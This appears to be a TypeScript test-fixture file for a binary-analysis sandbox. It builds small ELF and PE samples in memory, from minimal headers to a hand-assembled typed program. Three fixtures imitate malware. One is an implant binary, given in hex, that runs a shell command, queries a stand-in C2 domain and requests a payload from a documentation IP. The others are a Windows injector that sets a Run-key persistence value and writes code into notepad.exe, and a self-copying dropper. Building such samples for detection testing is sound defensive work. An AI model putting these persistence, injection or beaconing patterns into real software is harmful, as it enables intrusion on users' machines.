// Small real binaries built in memory for API tests (headers only, or a little real code).
import { seededRandom } from '../../src/shared/seeded-random.js';
import { buildElf } from './engine/elf.js';
import { PE_TEXT, pe64Script } from './engine/pe-program.js';

/** A minimal ELF64 little-endian x86-64 executable header with one PT_LOAD at 0x400000. */
export function elf64(tag = 0): Buffer {
  const b = Buffer.alloc(0x200);
  b.write('\x7fELF', 0, 'latin1');
  b[4] = 2; // 64-bit
  b[5] = 1; // little endian
  b[6] = 1;
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(62, 18); // x86-64
  b.writeUInt32LE(1, 20);
  b.writeBigUInt64LE(0x401000n, 24); // entry
  b.writeBigUInt64LE(64n, 32); // phoff
  b.writeUInt16LE(64, 52); // ehsize
  b.writeUInt16LE(56, 54); // phentsize
  b.writeUInt16LE(1, 56); // phnum
  b.writeUInt32LE(1, 64); // PT_LOAD
  b.writeUInt32LE(5, 68);
  b.writeBigUInt64LE(0x400000n, 80); // vaddr
  b.writeUInt32LE(tag, 0x1f0); // makes distinct samples distinct
  return b;
}

/** ELF header of a machine the engine has no decoder for, so no model covers it (PowerPC, big endian). */
export function elfPowerPc(): Buffer {
  const b = Buffer.alloc(0x100);
  b.write('\x7fELF', 0, 'latin1');
  b[4] = 1;
  b[5] = 2;
  b[6] = 1;
  b.writeUInt16BE(2, 16);
  b.writeUInt16BE(20, 18); // EM_PPC
  b.writeUInt32BE(1, 20);
  b.writeUInt16BE(52, 40);
  return b;
}

/** Bytes that are no known format. */
export const rawBlob = (n = 4096) => Buffer.alloc(n, 0x90);

/**
 * `n` bytes of seeded noise. Analysed as raw x86-64 (binary_config) 1 MB decodes into ~9 000 junk functions:
 * ~3 s and more than 32 MiB of heap on the shared 2-core machine.
 */
export function noise(n: number, seed = 1): Buffer {
  const next = seededRandom(seed);
  return Buffer.from(Uint8Array.from({ length: n }, () => Math.floor(next() * 256)));
}

/**
 * An x86-64 ELF executable with four functions whose data types the types stage recovers, hand-assembled (no
 * symbols, so they are named sub_<hex>):
 *   0x11000 int32_t f(int32_t a1, int32_t *a2)  — `*p = a; return a + 1;`
 *   0x11006 int32_t g(void)                     — the entry: `return f(5, &local) * 2;`
 *   0x11020 int32_t h(int32_t a1)               — a frame: the argument spilled to var_c at -0xc
 *   0x1102c int32_t k(struct s_1102c_1 *a1)     — `return p->f_0 + p->f_8;`: a structure from its accesses
 */
export const TYPED = { f: 0x11000, g: 0x11006, h: 0x11020, k: 0x1102c };

export function typedProgram(tag = 0): Buffer {
  const code = [
    ...[0x89, 0x3e, 0x8d, 0x47, 0x01, 0xc3], // mov [rsi], edi; lea eax, [rdi+1]; ret
    ...[0x48, 0x83, 0xec, 0x18, 0x48, 0x8d, 0x74, 0x24, 0x0c], // sub rsp, 0x18; lea rsi, [rsp+0xc]
    ...[0xbf, 0x05, 0x00, 0x00, 0x00, 0xe8, 0xe7, 0xff, 0xff, 0xff], // mov edi, 5; call 0x11000
    ...[0x01, 0xc0, 0x48, 0x83, 0xc4, 0x18, 0xc3], // add eax, eax; add rsp, 0x18; ret
    ...[0x55, 0x48, 0x89, 0xe5, 0x89, 0x7d, 0xfc], // push rbp; mov rbp, rsp; mov [rbp-4], edi
    ...[0x8b, 0x45, 0xfc, 0x5d, 0xc3], // mov eax, [rbp-4]; pop rbp; ret
    ...[0x8b, 0x07, 0x03, 0x47, 0x08, 0xc3], // mov eax, [rdi]; add eax, [rdi+8]; ret
  ];
  const elf = buildElf({
    bits: 64,
    little: true,
    machine: 62,
    type: 2,
    entry: TYPED.g,
    sections: [{ name: '.text', type: 1, flags: 6, addr: TYPED.f, data: Uint8Array.from(code) }],
  });
  // A trailing tag makes distinct samples of the same program (past everything the parser reads).
  return Buffer.concat([Buffer.from(elf), Buffer.from([tag & 0xff])]);
}

/**
 * A static x86-64 Linux program with no C library that behaves like a small implant, made for the sandbox:
 * it forks a child that runs `sh -c id`, waits for it, asks DNS for c2.example.org (a query written to UDP
 * port 53 of 8.8.8.8), connects to 192.0.2.10:80 and sends `GET /files/payload.bin` with that host, then
 * exits 0. Assembled from this (gcc -nostdlib; the .text bytes below):
 *   _start: mov eax, 57; syscall; test eax, eax; jnz 1f
 *           push 0; push &"id"; push &"-c"; push &"sh"; mov rsi, rsp; lea rdi, "/bin/sh"; xor edx, edx
 *           mov eax, 59; syscall; mov edi, 1; mov eax, 60; syscall
 *   1:      wait4(-1, 0, 0, 0); r12 = socket(2, 2, 0); connect(r12, {2, 53, 8.8.8.8}, 16);
 *           write(r12, query, 32); r12 = socket(2, 1, 0); connect(r12, {2, 80, 192.0.2.10}, 16);
 *           write(r12, request, 57); exit(0)
 * followed by the strings, the two sockaddr_in, the DNS query (id 0x1234, RD, one A question) and the request.
 */
export function implantProgram(): Buffer {
  const text =
    'b8390000000f0585c075396a00488d05de00000050488d05d300000050488d05c8000000504889e6488d3db500000031' +
    'd2b83b0000000f05bf01000000b83c0000000f05bfffffffff31f631d24531d2b83d0000000f05bf02000000be020000' +
    '0031d2b8290000000f054989c44c89e7488d3581000000ba10000000b82a0000000f054c89e7488d358b000000ba2000' +
    '0000b8010000000f05bf02000000be0100000031d2b8290000000f054989c44c89e7488d354f000000ba10000000b82a' +
    '0000000f054c89e7488d3569000000ba39000000b8010000000f0531ffb83c0000000f052f62696e2f7368007368002d' +
    '63006964000f1f000200003508080808000000000000000002000050c000020a00000000000000001234010000010000' +
    '00000000026332076578616d706c65036f72670000010001474554202f66696c65732f7061796c6f61642e62696e2048' +
    '5454502f312e310d0a486f73743a2063322e6578616d706c652e6f72670d0a0d0a';
  return x86_64Program(Buffer.from(text, 'hex'));
}

/** A static x86-64 executable whose whole code is `code`, at its entry 0x401000. */
export function x86_64Program(code: Uint8Array): Buffer {
  const sections = [{ name: '.text', type: 1, flags: 6, addr: 0x401000, data: code }];
  return Buffer.from(
    buildElf({ bits: 64, little: true, machine: 62, type: 2, entry: 0x401000, base: 0x400000, sections }),
  );
}

/**
 * A Windows program that sets a Run key value, creates notepad.exe suspended, and writes 16 bytes of its own
 * code into it and starts a thread there.
 */
export function windowsInjector(): Uint8Array {
  const pi = { at: 0x200 };
  return pe64Script(
    {
      'advapi32.dll': ['RegCreateKeyExA', 'RegSetValueExA'],
      'kernel32.dll': ['CreateProcessA', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'],
    },
    [
      {
        api: 'RegCreateKeyExA',
        args: [
          0xffff_ffff_8000_0001n,
          'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          0,
          0,
          0,
          2,
          0,
          { at: 0 },
          0,
        ],
      },
      { api: 'RegSetValueExA', args: [{ load: 0 }, 'updater', 0, 1, 'C:\\Users\\Public\\updater.exe', 30] },
      { api: 'CreateProcessA', args: [0, 'notepad.exe', 0, 0, 0, 4, 0, 0, { at: 0x100 }, pi] },
      { api: 'VirtualAllocEx', args: [{ load: 0x200 }, 0, 4096, 0x3000, 0x40], keep: 0x300 },
      { api: 'WriteProcessMemory', args: [{ load: 0x200 }, { load: 0x300 }, PE_TEXT, 16, 0] },
      { api: 'CreateRemoteThread', args: [{ load: 0x200 }, 0, 0, { load: 0x300 }, 0, 0, 0] },
    ],
  );
}

/** A Windows program that copies itself to C:\Users\Public\updater.exe (a dropped executable). */
export function windowsSelfCopier(): Uint8Array {
  return pe64Script({ 'kernel32.dll': ['GetModuleFileNameA', 'CopyFileA'] }, [
    { api: 'GetModuleFileNameA', args: [0, { at: 0x400 }, 260] },
    { api: 'CopyFileA', args: [{ at: 0x400 }, 'C:\\Users\\Public\\updater.exe', 0] },
  ]);
}
